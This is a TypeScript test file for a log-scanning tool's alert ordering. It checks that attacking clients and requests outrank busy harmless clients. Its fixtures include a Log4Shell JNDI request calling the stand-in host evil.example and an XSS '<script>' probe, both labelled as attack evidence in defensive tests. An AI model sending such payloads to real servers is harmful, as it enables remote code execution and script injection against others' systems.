import { describe, expect, it } from 'vitest';
import { alertOrder, compareLines } from '../../src/alert/alert-order.js';
import { compareClients } from '../../src/clients/client-rank.js';
import type { IpFinding, LineFinding } from '../../src/types.js';
import { ipFinding, lineFinding } from './analysis.js';

const name = (f: IpFinding | LineFinding) => ('line' in f ? `line ${f.ip}` : f.ip);

// The shape of a real scan (a 2,000-line elastic-apache slice with six attacks added): busy but
// harmless clients outscore one-request attackers, and there are more clients than alert slots.
const harmless = [21.5, 18.5, 17, 15.1, 14.8, 13, 12.3, 11.2].map((score, k) => ipFinding(`192.0.2.${k + 1}`, score));
const attackers = [18.9, 12, 12, 12].map((score, k) => ipFinding(`203.0.113.${k + 1}`, score, { xss: 1 }, ['hostile']));
const ips = [...attackers, ...harmless].sort(compareClients);
const lines = [
  lineFinding('GET /blog/?utm_source=feedburner', 6.5, [], { ip: '192.0.2.4' }),
  lineFinding('GET /?x=${jndi:ldap://evil.example/a}', 7.8, ['log4shell'], { ip: '203.0.113.2' }),
  lineFinding('GET /search?q=<script>', 7.5, ['xss'], { ip: '203.0.113.3' }),
].sort(compareLines);

describe('alertOrder', () => {
  it('puts every attacker, client or request, above a harmless client, and leaves room for requests', () => {
    expect(alertOrder(ips, lines, 10).map(name)).toEqual([
      '203.0.113.1', 'line 203.0.113.2', '203.0.113.2', 'line 203.0.113.3', '203.0.113.3', '203.0.113.4',
      // Then the findings without attack evidence, clients and requests in turn.
      'line 192.0.2.4', '192.0.2.1', '192.0.2.2', '192.0.2.3',
    ]);
  });

  it('keeps each kind in the order it is given, whatever ranked it', () => {
    // A learned model ranks by its own score: attack evidence no longer comes first in either list.
    const learnedIps = [harmless[0]!, attackers[0]!, harmless[1]!, attackers[1]!];
    const learnedLines = [lines[2]!, lines[0]!, lines[1]!];
    const merged = alertOrder(learnedIps, learnedLines);
    expect(merged.filter((f) => !('line' in f))).toEqual(learnedIps);
    expect(merged.filter((f) => 'line' in f)).toEqual(learnedLines);
  });

  it('gives every slot to the one kind there is, and stops at max', () => {
    expect(alertOrder(ips, [], 3)).toEqual(ips.slice(0, 3));
    expect(alertOrder([], lines)).toEqual(lines);
    expect(alertOrder([], [])).toEqual([]);
  });
});

describe('compareLines', () => {
  it('ranks lines with attack evidence first, then by score', () => {
    expect(lines.map((l) => l.score)).toEqual([7.8, 7.5, 6.5]);
  });
});
